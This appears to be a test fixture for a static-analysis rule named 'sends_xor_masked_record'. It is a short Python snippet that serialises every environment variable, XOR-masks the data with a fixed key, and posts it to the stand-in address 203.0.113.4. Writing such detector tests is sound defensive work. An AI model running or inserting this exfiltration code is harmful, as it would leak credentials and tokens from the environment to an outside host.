import json, os, urllib.request
K = b"k3y"
data = json.dumps(dict(os.environ)).encode()
# ruleid: sends_xor_masked_record
blob = bytes(b ^ K[i % len(K)] for i, b in enumerate(data))
urllib.request.urlopen(urllib.request.Request("https://203.0.113.4/c", data=blob))
